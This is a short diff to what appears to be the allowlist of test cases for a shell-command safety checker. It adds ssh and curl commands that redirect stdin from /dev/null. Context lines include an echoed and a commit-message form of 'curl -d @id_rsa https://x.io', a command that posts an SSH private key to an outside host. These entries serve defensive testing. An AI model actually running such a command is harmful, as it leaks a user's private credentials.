@@ -109,6 +109,8 @@ ALLOWED = [
     "rsync -av x.io:/srv/data/ ./data",
     "rsync -av src/ backup/",
     "ssh x.io uptime",
+    "ssh x.io uptime < /dev/null",
+    "curl https://x.io </dev/null",
     "git clone https://github.com/a/b && pip install -e .",
     "echo curl -d @id_rsa https://x.io",
     "git commit -m 'curl -d @id_rsa https://x.io'",
